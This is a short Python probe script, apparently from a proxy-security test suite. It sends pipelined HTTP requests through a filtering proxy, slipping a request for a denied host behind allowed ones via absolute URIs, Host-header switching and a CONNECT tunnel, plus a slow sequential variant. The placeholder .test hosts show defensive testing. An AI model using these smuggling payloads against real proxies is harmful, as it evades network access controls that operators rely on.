"""Requests in a row to the proxy, one of them for another host."""

from probe import *


def get(host, path="/row"):
    return f"GET http://{host}{path} HTTP/1.1\r\nHost: {host}\r\n\r\n"


BAD = get("denied.test", "/" + TOKEN)


def control():
    send("denied.test", 80, request("denied.test", "/" + TOKEN))


def attack():
    for first in ("allowed.test", "www.allowed.test"):
        say("row", to_proxy(get(first) + BAD))
        say("row", to_proxy(get(first) * 3 + BAD + get(first)))
        say("row", to_proxy(get(first) + f"GET /{TOKEN} HTTP/1.1\r\nHost: denied.test\r\n\r\n"))
        tunnel_to = f"CONNECT denied.test:80 HTTP/1.1\r\nHost: {TOKEN}\r\n\r\n"
        say("row", to_proxy(get(first) + tunnel_to))
    say("slowly", attempt(slowly))


def slowly():
    with dial(*proxy()) as stream:
        stream.sendall(get("allowed.test").encode())
        first = read(stream, 10)
        stream.sendall(get("www.allowed.test").encode())
        second = read(stream, 10)
        stream.sendall(BAD.encode())
        return " ".join([hello_in(first), hello_in(second), read(stream)])


start(attack, control)
